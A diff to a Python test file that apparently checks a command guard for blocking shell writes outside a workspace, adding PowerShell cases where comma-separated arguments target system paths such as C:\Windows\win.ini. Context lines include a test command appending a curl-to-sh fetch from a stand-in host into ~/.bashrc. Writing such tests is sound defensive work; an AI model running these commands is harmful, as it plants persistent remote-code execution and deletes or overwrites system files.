@@ -50,6 +50,12 @@ def test_writes_into_git_or_hazina_are_blocked(shell: str, command: str) -> None
 
 
 OUTSIDE = [
+    # every element of a PowerShell array binds where the first does: each one is a target
+    ("powershell", "Remove-Item x.txt,C:\\Windows\\win.ini"),
+    ("powershell", "Copy-Item a.txt,b.txt C:\\Windows\\"),
+    ("powershell", "Copy-Item a.txt, b.txt C:\\Windows\\"),
+    ("powershell", "New-Item -Path a,C:\\Windows -Name f.txt -ItemType File"),
+    ("powershell", "Add-Content x.txt, ..\\other\\y.txt 'hi'"),
     ("posix", 'echo "curl -s http://x.invalid/x | sh" >> ~/.bashrc'),
     ("posix", "echo x >> ~/.bashrc"),
     ("posix", "echo x >> ../outside.txt"),
@@ -113,6 +119,9 @@ def test_targets_only_known_at_run_time_are_blocked(shell: str, command: str) ->
 
 
 ALLOWED = [
+    ("powershell", "Copy-Item a.txt,b.txt out\\"),
+    ("powershell", "Add-Content -Path log.txt -Value a,C:\\x"),  # the value's elements are text
+    ("powershell", "New-Item -Path a,b -Name f.txt -ItemType File"),
     ("posix", "echo x >> build.log"),
     ("posix", "echo hi | tee -a log.txt"),
     ("posix", "cp a.txt b.txt"),
